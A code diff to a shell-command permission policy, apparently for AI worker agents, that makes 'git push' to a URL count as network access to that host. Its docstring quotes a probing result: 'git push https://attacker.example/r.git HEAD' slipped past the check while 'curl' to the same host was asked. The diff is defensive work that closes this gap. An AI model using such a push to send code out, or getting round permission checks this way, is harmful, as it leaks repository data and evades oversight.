@@ -18,9 +18,10 @@ policy compares it with the protected branches. If any word of the push is dynam
 
 from __future__ import annotations
 
-from exomonad.policy.actions import Action, DeleteBranch, GitPush, Shell, Unknown
+from exomonad.policy.actions import Action, DeleteBranch, GitPush, Network, Shell, Unknown
 from exomonad.policy.shell_env import ShellEnv
 from exomonad.policy.shell_lex import Word
+from exomonad.policy.shell_network import host_of
 
 __all__ = ["branch_name", "push"]
 
@@ -147,6 +148,29 @@ def _parse(args: list[Word]) -> _Parsed | None:
     return state, values, positionals
 
 
+def _pushed_to(remote: Word | None) -> list[Action]:
+    """Network access to the host of a push's URL (``https://``, ``ssh://``, ``git://``,
+    scp-like ``user@host:path``) or of a URL known only at run time: the pushed history
+    leaves the machine for whoever is there (found probing: ``git push
+    https://attacker.example/r.git HEAD`` was allowed, as a push of the worker's own
+    branch, while ``curl`` to the same host is asked). A configured remote's name (which
+    only the lead's configuration names: ``git remote add`` is asked) and local paths
+    stay as they are.
+
+    >>> _pushed_to(Word("git@example.com:o/r.git")), _pushed_to(Word("origin"))
+    ([Network(host='example.com')], [])
+    """
+    if remote is None:
+        return []
+    if remote.dynamic:
+        return [Network(None)]
+    text = remote.text
+    scp = ":" in text and "/" not in text.split(":", 1)[0] and "://" not in text
+    if scp or ("://" in text and not text.lower().startswith("file://")):
+        return [Network(host_of(text.replace(":", "/", 1) if scp else text))]
+    return []
+
+
 def push(args: list[Word], repo: str | None, env: ShellEnv, cwd: str | None) -> list[Action]:
     """Actions for ``git push ARGS`` (``repo``: the directory git runs in)."""
     parsed = _parse(args)
@@ -162,7 +186,7 @@ def push(args: list[Word], repo: str | None, env: ShellEnv, cwd: str | None) -> 
     remote_word = values.get("repo") or (positionals[0] if positionals else None)
     remote = None if remote_word is None or remote_word.dynamic else remote_word.text
     refspecs = positionals[1:] if positionals else []
-    out: list[Action] = []
+    out: list[Action] = _pushed_to(remote_word)
     if state.get("prune") or state.get("mirror"):
         out.append(DeleteBranch(None, remote, force=True))
     if not refspecs:
